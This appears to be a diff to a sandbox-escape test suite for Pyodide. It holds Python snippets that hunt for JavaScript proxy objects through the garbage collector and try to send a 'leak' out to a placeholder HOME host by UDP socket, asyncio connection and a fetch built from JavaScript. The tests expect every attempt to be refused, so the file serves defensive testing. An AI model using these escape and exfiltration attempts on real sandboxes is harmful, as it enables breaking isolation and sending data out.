@@ -11,11 +11,19 @@ for line in ${JSON.stringify(lines)}:
         pass
 print(got or "refused")`;
 
-/** Finds every object of JavaScript's that Python can dig up. */
-const DIG = `import gc, sys
-proxies = [o for o in gc.get_objects() if "JsProxy" in str(type(o).__mro__) and not isinstance(o, type)]
-for module in list(sys.modules.values()):
-    proxies += [o for o in vars(module).values() if "JsProxy" in type(o).__name__]
+/** Finds every object of JavaScript's that Python can dig up: they are not listed, but held by what is. */
+const DIG = `import gc
+proxies = {id(held): held for o in gc.get_objects() for held in gc.get_referents(o)
+    if "JsProxy" in str(type(held).__mro__) and not isinstance(held, type)}
+for held in list(proxies.values()):
+    for name in dir(held):
+        try:
+            found = getattr(held, name)
+        except BaseException:
+            continue
+        if "JsProxy" in str(type(found).__mro__):
+            proxies[id(found)] = found
+proxies = list(proxies.values())
 `;
 
 /** Ways out of the place that runs Python: to the network, to JavaScript, to the machine. */
@@ -59,7 +67,7 @@ socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", (host, int(port
 async def go():
     await asyncio.open_connection(*"HOME".split("//")[1].split(":"))
 asyncio.run(go())`,
-    told: /./,
+    told: NO_BRIDGE,
   },
   {
     id: "pyodide-http",
@@ -142,8 +150,8 @@ for proxy in proxies:
             reached.append(str(made("return fetch('HOME/leak')")()))
         except BaseException:
             pass
-print([name for name in reached if name not in ("undefined", "[object Object]", "")] or "refused")`,
-    told: /^refused$/,
+print(len(proxies) > 20, [name for name in reached if name not in ("undefined", "[object Object]", "")] or "refused")`,
+    told: /^True refused$/,
   },
   {
     id: "dig-names",
@@ -157,8 +165,8 @@ for proxy in proxies:
             used += 1
         except BaseException:
             pass
-print("tried")`,
-    told: /^tried$/,
+print(len(proxies) > 20, used)`,
+    told: /^True 0$/,
   },
   {
     id: "dig-pyodide",
@@ -171,7 +179,7 @@ print("tried")`,
         except BaseException:
             pass
 print("tried")`,
-    told: /^tried$/,
+    told: /^tried$/m,
   },
   {
     id: "ctypes-script",
